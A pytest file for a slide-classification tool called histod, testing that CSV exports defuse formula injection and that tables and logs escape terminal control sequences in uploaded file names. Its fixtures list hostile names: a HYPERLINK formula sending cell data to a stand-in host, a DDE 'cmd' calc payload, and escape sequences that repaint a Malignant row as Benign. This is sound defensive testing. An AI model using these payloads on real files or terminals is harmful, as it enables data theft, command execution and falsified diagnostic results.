"""Hostile file names in what histod writes for people: CSV exports (`audit export`, `results --format csv`) that a
spreadsheet opens, the `results` table and console log lines that a terminal renders. Names come from whoever
uploads the file, so they may start like a formula, hold a carriage return, or carry terminal escapes that
repaint a line (a Malignant row shown as Benign)."""

from __future__ import annotations

import csv
import io
import json
import re
from datetime import UTC, datetime, timedelta
from pathlib import Path

import pytest
import structlog
from click.testing import CliRunner

from histod.cli import cli
from histod.db import queries
from histod.db.models import Result
from histod.db.session import open_database, transaction
from histod.logs import configure, get_logger

T0 = datetime(2026, 1, 2, 3, 4, 5, tzinfo=UTC)

FORMULAS = [
    '=HYPERLINK("http://evil.example/?"&A1,"open").png',
    "+1+cmd|' /C calc'!A0.png",
    "-2+3.png",
    "@SUM(1+1)*cmd.png",
    "\t=1+1.png",
    "\r=1+1.png",
    "'=already quoted.png",
]
SPLITTERS = ["two\rrecords.png", "three\r\nrecords\n.png", 'quote " and, comma.png']
ESCAPES = [
    "\x1b[2K\rslide-7 Benign 0.0100.png",  # erase the line, back to column 0, paint a fake row
    "slide-8\x08\x08\x08\x08\x08\x08\x08Benign.png",  # backspaces over what came before
    "\x1b]0;window title\x07tile.png",  # an OSC sequence ended by BEL
    "right\u202eto-left.png",  # a bidirectional override: the rest of the line displays reversed
]
COLOURED = "\x1b[32mBenign\x1b[0m.png"  # a name that paints itself green
NAMES = [*FORMULAS, *SPLITTERS, *ESCAPES, COLOURED]
TRIGGERS = ("=", "+", "-", "@", "\t", "\r")


def _db(tmp_path: Path) -> Path:
    path = tmp_path / "histod.db"
    factory = open_database(f"sqlite:///{path}")
    rows = [
        Result(
            original_path=f"/watch/{name}",
            name=name,
            sha256=f"{i:064x}",
            size_bytes=10,
            received_at=T0 + timedelta(seconds=i),
            classified_at=T0 + timedelta(seconds=i, milliseconds=40),
            latency_ms=40.0,
            status="classified",
            label="Malignant",
            p_malignant=0.99,
            threshold=0.5,
            host="test",
            stored_path=f"/data/processed/{i}-{name}",
        )
        for i, name in enumerate(NAMES)
    ]
    with transaction(factory) as s:
        queries.record_results(s, rows)
    factory.kw["bind"].dispose()
    return path


def _unescape(cell: str) -> str:
    """The documented rule: a cell that starts with ' had one ' put in front of it."""
    return cell[1:] if cell.startswith("'") else cell


def _records(text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text, newline="")))


def _check_csv(records: list[dict[str, str]]) -> None:
    assert [r["name"] for r in records] != NAMES, "formula cells must not reach the spreadsheet as they are"
    for record in records:
        for column, cell in record.items():
            assert not cell.startswith(TRIGGERS), (column, cell)
    assert [_unescape(r["name"]) for r in records] == NAMES
    assert [_unescape(r["original_path"]) for r in records] == [f"/watch/{n}" for n in NAMES]


def test_audit_export_csv_parses_back_to_the_manifest_and_defuses_formulas(tmp_path: Path) -> None:
    path = _db(tmp_path)
    out = tmp_path / "audit.csv"
    got = CliRunner().invoke(cli, ["audit", "export", str(out), "--db", f"sqlite:///{path}"])
    assert got.exit_code == 0, got.output
    manifest = json.loads((tmp_path / "audit.csv.manifest.json").read_text())
    with out.open(encoding="utf-8", newline="") as fh:
        records = list(csv.DictReader(fh))
    assert len(records) == manifest["rows"] == len(NAMES)
    assert [int(r["id"]) for r in records] == list(range(manifest["first_id"], manifest["last_id"] + 1))
    assert records[-1]["row_hash"] == manifest["last_hash"]
    _check_csv(records)
    assert "'" in manifest["csv_escaping"]


def test_audit_export_json_keeps_the_names_exactly(tmp_path: Path) -> None:
    path = _db(tmp_path)
    out = tmp_path / "audit.json"
    got = CliRunner().invoke(cli, ["audit", "export", str(out), "--db", f"sqlite:///{path}"])
    assert got.exit_code == 0, got.output
    assert [r["name"] for r in json.loads(out.read_text())] == NAMES


def test_results_csv_parses_back_to_one_record_per_row_and_defuses_formulas(tmp_path: Path) -> None:
    path = _db(tmp_path)
    got = CliRunner().invoke(cli, ["results", "--format", "csv", "--db", f"sqlite:///{path}"])
    assert got.exit_code == 0, got.output
    records = _records(got.stdout_bytes.decode())  # CliRunner's .stdout turns \r\n into \n
    assert len(records) == len(NAMES)
    _check_csv(records)


def test_results_json_is_exact_and_escaped(tmp_path: Path) -> None:
    path = _db(tmp_path)
    got = CliRunner().invoke(cli, ["results", "--format", "json", "--db", f"sqlite:///{path}"])
    assert got.exit_code == 0, got.output
    assert not any(c in got.stdout for c in "\x1b\r\x08\x07\u202e")
    assert [r["name"] for r in json.loads(got.stdout)] == NAMES


def _raw_controls(text: str) -> set[str]:
    """Characters a terminal would act on, other than the line breaks between lines."""
    return {c for c in text if (ord(c) < 32 and c != "\n") or 0x7F <= ord(c) < 0xA0 or c in "\u202e\u2028\u2029"}


def test_results_table_shows_control_characters_escaped(tmp_path: Path) -> None:
    path = _db(tmp_path)
    got = CliRunner().invoke(cli, ["results", "--db", f"sqlite:///{path}"])
    assert got.exit_code == 0, got.output
    assert _raw_controls(got.stdout) == set()
    lines = got.stdout.splitlines()
    assert len(lines) == 1 + len(NAMES) + 1  # header, one line per row, the count
    assert all("Malignant" in line for line in lines[1:-1])
    for name in [*ESCAPES, COLOURED, "two\rrecords.png"]:
        assert repr(name)[1:-1] in got.stdout, name


class _Tty(io.StringIO):
    def isatty(self) -> bool:
        return True


@pytest.mark.parametrize("name", [*ESCAPES, "two\rrecords.png"])
def test_console_log_lines_show_control_characters_escaped(name: str) -> None:
    out = _Tty()
    configure("info", "console", stream=out)
    try:
        get_logger("t").info("image.classified", path=f"/watch/{name}", name=name, label="Malignant")
        get_logger("t").warning(f"event {name}")
    finally:
        structlog.reset_defaults()
    text = out.getvalue()
    own_colours = re.compile(r"\x1b\[[0-9;]*m")  # the renderer's colours (the names hold no such sequence)
    assert _raw_controls(own_colours.sub("", text)) == set(), repr(text)
    assert len(text.splitlines()) == 2
    assert repr(name)[1:-1] in text  # repr-style: \x1b, \r, \x08, \u202e


def test_json_log_lines_escape_control_characters() -> None:
    out = io.StringIO()
    configure("info", "json", stream=out)
    try:
        get_logger("t").info("image.classified", name=ESCAPES[0])
    finally:
        structlog.reset_defaults()
    assert _raw_controls(out.getvalue()) == set()
    assert json.loads(out.getvalue())["name"] == ESCAPES[0]
